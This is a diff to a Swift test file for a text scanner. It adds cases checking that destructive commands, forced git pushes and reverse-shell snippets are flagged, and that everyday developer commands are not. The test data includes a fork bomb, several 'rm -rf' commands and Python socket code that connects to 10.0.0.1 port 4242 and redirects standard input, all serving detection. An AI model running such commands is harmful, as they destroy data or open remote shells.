@@ -58,6 +58,12 @@ import Testing
             ("сервер", nil), (":(){ :|:& };:", "ci.fork-bomb"), ("a\0b", "pt.zero-byte"),
             ("\u{1b}[31mred\u{1b}[0m", "hu.terminal-colour"),
             ("\u{1b}[8mhidden", "hu.terminal-control"), ("sk-short", nil), ("?a=1&cat=books", nil), ("...and", nil),
+            ("rm -rf ~/x", "ci.remove-tree"), ("rm -rf *", "ci.remove-tree"), ("rm -rf build", "ci.remove-folder"),
+            (#"python -c 'import socket,os,pty;s=socket.socket();s.connect(("10.0.0.1",4242))'"#, "ci.remote-shell"),
+            ("import socket,os;s=socket.socket();s.connect((h,1));os.dup2(s.fileno(),0)", "ci.remote-shell"),
+            ("import socket\ns = socket.socket()\ns.connect((host, 80))\ns.send(b'x')", nil),
+            ("git push --force origin main", "ci.rewrite-history"), ("git push origin +main -f", nil),
+            ("git push -f", "ci.rewrite-history"), ("git push origin main", nil),
         ] as [(String, String?)])
     func rulesAreFound(text: String, rule: String?) {
         let report = scanner.scan(text)
@@ -66,6 +72,15 @@ import Testing
         } else {
             #expect(report.isEmpty, "\(report.counts)")
         }
+    }
+
+    @Test(
+        "What developers type every day is nothing that a person has to see",
+        arguments: [
+            "rm -rf node_modules && npm install", "rm -rf ./build", "git push --force-with-lease origin topic",
+        ])
+    func everyday(text: String) {
+        #expect(scanner.scan(text).score < 4, "\(scanner.scan(text).counts)")
     }
 
     @Test func encodedTextIsRead() throws {
